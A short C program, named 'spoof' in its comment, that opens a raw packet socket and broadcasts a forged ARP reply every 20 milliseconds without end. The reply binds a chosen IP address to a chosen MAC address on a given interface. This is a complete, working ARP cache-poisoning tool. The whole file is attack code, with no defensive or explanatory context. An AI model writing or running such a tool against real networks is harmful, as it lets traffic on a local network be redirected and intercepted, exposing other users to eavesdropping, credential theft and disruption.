/* Sends one ARP answer through an interface, over and over: `spoof eth0 SENDER_MAC SENDER_IP TARGET_IP [SOURCE_MAC]`. */
#include <arpa/inet.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <netinet/ether.h>
#include <netpacket/packet.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

int main(int count, char **arguments) {
  struct ether_arp arp = {0};
  struct {
    struct ether_header header;
    struct ether_arp arp;
  } __attribute__((packed)) frame;
  int socket_ = socket(AF_PACKET, SOCK_RAW, htons(ETH_P_ARP));
  struct sockaddr_ll to = {.sll_family = AF_PACKET, .sll_ifindex = if_nametoindex(arguments[1])};
  if (socket_ < 0 || count < 5) return 1;
  arp.arp_hrd = htons(ARPHRD_ETHER);
  arp.arp_pro = htons(ETHERTYPE_IP);
  arp.arp_hln = ETH_ALEN;
  arp.arp_pln = 4;
  arp.arp_op = htons(ARPOP_REPLY);
  memcpy(arp.arp_sha, ether_aton(arguments[2]), ETH_ALEN);
  inet_pton(AF_INET, arguments[3], arp.arp_spa);
  memset(arp.arp_tha, 0xff, ETH_ALEN);
  inet_pton(AF_INET, arguments[4], arp.arp_tpa);
  memset(frame.header.ether_dhost, 0xff, ETH_ALEN);
  memcpy(frame.header.ether_shost, ether_aton(arguments[count > 5 ? 5 : 2]), ETH_ALEN);
  frame.header.ether_type = htons(ETHERTYPE_ARP);
  frame.arp = arp;
  for (;;) {
    if (sendto(socket_, &frame, sizeof frame, 0, (struct sockaddr *)&to, sizeof to) < 0) return 2;
    usleep(20000);
  }
}
